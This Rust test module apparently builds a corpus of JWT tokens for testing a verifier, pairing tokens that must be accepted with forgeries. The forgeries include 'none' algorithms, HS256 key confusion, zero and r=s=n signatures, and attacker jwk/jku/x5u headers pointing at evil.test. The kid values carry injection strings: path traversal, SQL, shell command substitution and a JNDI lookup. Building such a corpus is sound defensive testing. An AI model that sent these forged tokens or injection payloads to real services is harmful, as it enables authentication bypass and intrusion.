//! The corpus itself, by what it plays with.

mod payload;

use crate::jose::tests::{
    NOW, claims,
    mint::{self, ED, P256, P384, P521, RSA, SECRET, Signer, encode},
};
use serde_json::{Value, json};

/// Names and tokens.
#[derive(Default)]
pub struct Corpus {
    pub tokens: Vec<(String, String)>,
}

const EACH: [(&str, &std::sync::LazyLock<Signer>); 10] = [
    ("RS256", &RSA),
    ("RS384", &RSA),
    ("RS512", &RSA),
    ("PS256", &RSA),
    ("PS384", &RSA),
    ("PS512", &RSA),
    ("ES256", &P256),
    ("ES384", &P384),
    ("ES512", &P521),
    ("EdDSA", &ED),
];

impl Corpus {
    pub fn gather() -> Corpus {
        let mut corpus = Corpus::default();
        corpus.algorithms();
        corpus.signatures();
        corpus.headers();
        corpus.key_ids();
        corpus.encodings();
        corpus.json();
        corpus.dates();
        corpus.other_claims();
        corpus
    }

    /// What must be accepted, or refusing the rest would prove nothing.
    pub fn good() -> Vec<(String, String)> {
        let mut good = Corpus::default();
        for (alg, signer) in EACH {
            good.add(alg, signer.token(alg, &claims()));
            let unnamed = json!({ "alg": alg });
            good.add("no kid", signer.with_header(&unnamed, &claims()));
        }
        let header = |extra: Value| {
            let mut header = json!({ "alg": "ES256", "kid": "p256" });
            if let (Some(all), Value::Object(extra)) = (header.as_object_mut(), extra) {
                all.extend(extra);
            }
            P256.with_header(&header, &claims())
        };
        for typ in ["JWT", "jwt", "at+jwt", "application/at+jwt", "JOSE"] {
            good.add(typ, header(json!({ "typ": typ })));
        }
        // Offered, and not taken: the key in the set is used.
        good.add("own jwk", header(json!({ "jwk": P256.jwk })));
        good.add("jku", header(json!({ "jku": "https://evil.test/jwks" })));
        for (name, change) in [
            (
                "float dates",
                json!({ "exp": 1_767_225_600.5, "nbf": 1_767_225_599.5 }),
            ),
            ("several audiences", json!({ "aud": ["x", "gateway"] })),
            (
                "within the leeway",
                json!({ "exp": NOW - 119, "nbf": NOW + 119, "iat": NOW + 119 }),
            ),
            ("the year 9999", json!({ "exp": 253_402_300_799u64 })),
            ("deep", json!({ "a": { "a": { "a": [[[{ "a": 1 }]]] } } })),
        ] {
            good.add(name, P256.token("ES256", &with(change)));
        }
        good.tokens
    }

    fn add(&mut self, name: impl Into<String>, token: String) {
        self.tokens.push((name.into(), token));
    }

    fn signed(&mut self, name: impl Into<String>, header: &Value, claims: &Value) {
        self.add(name, P256.with_header(header, claims));
    }

    fn algorithms(&mut self) {
        let names = [
            "none",
            "None",
            "NONE",
            "nOnE",
            "none ",
            " none",
            "",
            "null",
            "es256",
            "Es256",
            "ES256 ",
            "ES256K",
            "ES256\0",
            "HS256",
            "HS384",
            "HS512",
            "HS1",
            "RSA-OAEP",
            "dir",
            "A128KW",
            "Ed25519",
            "Ed448",
            "eddsa",
            "RS1",
            "RS256,none",
            "ML-DSA-44",
            "../none",
        ];
        for alg in names {
            let header = json!({ "alg": alg, "kid": "p256" });
            self.signed(format!("alg {alg:?}"), &header, &claims());
            let bare = format!(
                "{}.{}.",
                encode(header.to_string()),
                encode(claims().to_string())
            );
            self.add(format!("alg {alg:?}, no signature"), bare);
        }
        for alg in [
            json!(null),
            json!(1),
            json!(true),
            json!(["ES256"]),
            json!({ "alg": "ES256" }),
        ] {
            self.signed(
                format!("alg {alg}"),
                &json!({ "alg": alg, "kid": "p256" }),
                &claims(),
            );
        }
        self.signed("no alg", &json!({ "kid": "p256" }), &claims());
        // A symmetric key that is in the set, for an algorithm that nobody asked for.
        for alg in ["HS256", "HS384", "HS512"] {
            self.add(
                format!("{alg} with a known secret"),
                SECRET.token(alg, &claims()),
            );
        }
        // Each key under each algorithm that is not its own.
        for (alg, _) in EACH {
            for signer in [&*RSA, &*P256, &*P384, &*P521, &*ED] {
                let own = EACH
                    .iter()
                    .any(|(a, s)| *a == alg && s.kid() == signer.kid());
                if !own {
                    let header = json!({ "alg": alg, "kid": signer.kid() });
                    self.add(
                        format!("{} as {alg}", signer.kid()),
                        signer.with_header(&header, &claims()),
                    );
                }
            }
        }
        // The header says one hash or padding, the signature has another.
        for (said, made) in [
            ("RS256", "RS512"),
            ("RS256", "PS256"),
            ("PS256", "RS256"),
            ("PS512", "PS256"),
            ("RS384", "RS256"),
        ] {
            let header = json!({ "alg": said, "kid": "rsa" }).to_string();
            self.add(
                format!("{made} under {said}"),
                RSA.raw(made, &header, &claims().to_string()),
            );
        }
    }

    fn signatures(&mut self) {
        for (alg, signer) in EACH {
            let token = signer.token(alg, &claims());
            let (signed, signature) = token.rsplit_once('.').expect("parts");
            let bytes = crate::jose::base64url(signature).expect("base64url");
            let mut with = |name: &str, bytes: &[u8]| {
                self.add(
                    format!("{alg}: {name}"),
                    format!("{signed}.{}", encode(bytes)),
                );
            };
            let changed = |n: usize| {
                let mut bytes = bytes.clone();
                bytes[n] ^= 1;
                bytes
            };
            with("empty", b"");
            // "Psychic" where the check forgets that 0 is no such number.
            with("all zero", &vec![0; bytes.len()]);
            with("all ones", &vec![0xff; bytes.len()]);
            with("first bit", &changed(0));
            with("last bit", &changed(bytes.len() - 1));
            with("one byte short", &bytes[..bytes.len() - 1]);
            with("one byte long", &[bytes.as_slice(), &[0]].concat());
            with("a zero before it", &[&[0], bytes.as_slice()].concat());
            with("twice", &bytes.repeat(2));
            let mut other = claims();
            other["sub"] = "root".into();
            let moved = signer.token(alg, &other);
            let (other, _) = moved.rsplit_once('.').expect("parts");
            self.add(
                format!("{alg}: of other claims"),
                format!("{other}.{signature}"),
            );
        }
        let token = P256.token("ES256", &claims());
        let (signed, signature) = token.rsplit_once('.').expect("parts");
        let bytes = crate::jose::base64url(signature).expect("base64url");
        let (r, s) = bytes.split_at(32);
        let der = [&[0x30, 0x46, 2, 33, 0], r, &[2, 33, 0], s].concat();
        self.add("DER", format!("{signed}.{}", encode(der)));
        self.add(
            "r only",
            format!("{signed}.{}", encode([r, &[0; 32]].concat())),
        );
        self.add(
            "s only",
            format!("{signed}.{}", encode([&[0; 32], s].concat())),
        );
        self.add("s, r", format!("{signed}.{}", encode([s, r].concat())));
        let order = hex("ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551");
        self.add(
            "r = s = n",
            format!("{signed}.{}", encode([&*order, &*order].concat())),
        );
        self.add(
            "r = n",
            format!("{signed}.{}", encode([&*order, s].concat())),
        );
    }

    fn headers(&mut self) {
        let stranger = mint::rsa("rsa");
        let with = |extra: Value| {
            let mut header = json!({ "alg": "RS256", "kid": "rsa" });
            if let (Some(all), Value::Object(extra)) = (header.as_object_mut(), extra) {
                all.extend(extra);
            }
            header
        };
        // Keys that the forger brought along, and signed with.
        for (name, extra) in [
            ("jwk", json!({ "jwk": stranger.jwk })),
            (
                "jwk without kid",
                json!({ "jwk": stranger.jwk, "kid": null }),
            ),
            ("jku", json!({ "jku": "https://evil.test/jwks" })),
            (
                "jku of the issuer",
                json!({ "jku": "https://id.test@evil.test/jwks" }),
            ),
            ("x5u", json!({ "x5u": "https://evil.test/cert.pem" })),
            ("x5c", json!({ "x5c": [encode([1, 2, 3])] })),
            ("x5t", json!({ "x5t": "AAAA" })),
            ("nothing", json!({})),
        ] {
            self.add(
                format!("a stranger's key by {name}"),
                stranger.with_header(&with(extra), &claims()),
            );
        }
        for (name, extra) in [
            ("crit exp", json!({ "crit": ["exp"], "exp": 1 })),
            ("crit b64", json!({ "crit": ["b64"], "b64": false })),
            ("crit b64 true", json!({ "crit": ["b64"], "b64": true })),
            ("crit empty", json!({ "crit": [] })),
            ("crit null", json!({ "crit": null })),
            ("crit text", json!({ "crit": "exp" })),
            ("crit alg", json!({ "crit": ["alg"] })),
            ("b64 alone", json!({ "b64": false })),
            ("b64 true alone", json!({ "b64": true })),
            ("typ logout", json!({ "typ": "logout+jwt" })),
            ("typ dpop", json!({ "typ": "dpop+jwt" })),
            ("typ secevent", json!({ "typ": "secevent+jwt" })),
            ("typ JWE", json!({ "typ": "JWE" })),
            ("typ empty", json!({ "typ": "" })),
            ("typ number", json!({ "typ": 1 })),
            ("typ null", json!({ "typ": null })),
            ("typ application", json!({ "typ": "application/" })),
            ("typ text/jwt", json!({ "typ": "text/jwt" })),
            ("cty JWT", json!({ "cty": "JWT" })),
            ("cty jwt", json!({ "cty": "application/jwt" })),
            ("cty number", json!({ "cty": 1 })),
            ("deep", json!({ "a": [[[[1]]]] })),
            ("huge", json!({ "a": "x".repeat(8000) })),
        ] {
            self.add(name, RSA.with_header(&with(extra), &claims()));
        }
        let unencoded = format!(
            "{}.{}",
            encode(json!({ "alg": "ES256", "b64": false, "crit": ["b64"] }).to_string()),
            claims()
        );
        let signature = P256.sign("ES256", unencoded.as_bytes());
        self.add(
            "b64 false, really",
            format!("{unencoded}.{}", encode(signature)),
        );
    }

    fn key_ids(&mut self) {
        let stranger = mint::rsa("rsa");
        for kid in [
            "",
            "unknown",
            "RSA",
            "rsa ",
            " rsa",
            "rsa\0",
            "rsa\n",
            "../../../dev/null",
            "/etc/passwd",
            "file:///dev/null",
            "https://evil.test/key",
            "' OR 1=1 --",
            "x' UNION SELECT 'key'--",
            "$(id)",
            "`id`",
            "| id",
            "%00",
            "*",
            "{{7*7}}",
            "${jndi:ldap://evil.test}",
            "\u{202e}asr",
        ] {
            let header = json!({ "alg": "RS256", "kid": kid });
            self.add(
                format!("kid {kid:?}"),
                stranger.with_header(&header, &claims()),
            );
            // With nothing as the secret, as if the key had been read from such a place.
            let empty = mint::secret("", b"");
            let header = json!({ "alg": "HS256", "kid": kid });
            self.add(
                format!("kid {kid:?}, empty secret"),
                empty.with_header(&header, &claims()),
            );
        }
        for kid in [
            json!(null),
            json!(1),
            json!(["rsa"]),
            json!({ "$ne": "" }),
            json!("x".repeat(257)),
        ] {
            let header = json!({ "alg": "RS256", "kid": kid });
            self.add("kid that is none", RSA.with_header(&header, &claims()));
        }
        for (name, header) in [
            ("kid twice", r#"{"alg":"RS256","kid":"p256","kid":"rsa"}"#),
            (
                "kid twice, escaped",
                r#"{"alg":"RS256","kid":"p256","k\u0069d":"rsa"}"#,
            ),
            ("alg twice", r#"{"alg":"none","kid":"rsa","alg":"RS256"}"#),
            (
                "alg twice, the same",
                r#"{"alg":"RS256","kid":"rsa","alg":"RS256"}"#,
            ),
        ] {
            self.add(name, RSA.raw("RS256", header, &claims().to_string()));
        }
    }
}

/// The good claims, with some in place of theirs.
fn with(changes: Value) -> Value {
    let mut all = claims();
    if let (Some(all), Value::Object(changes)) = (all.as_object_mut(), changes) {
        all.extend(changes);
    }
    all
}

fn hex(text: &str) -> Vec<u8> {
    let digit = |at: usize| u8::from_str_radix(&text[at..at + 2], 16).expect("hex");
    (0..text.len()).step_by(2).map(digit).collect()
}
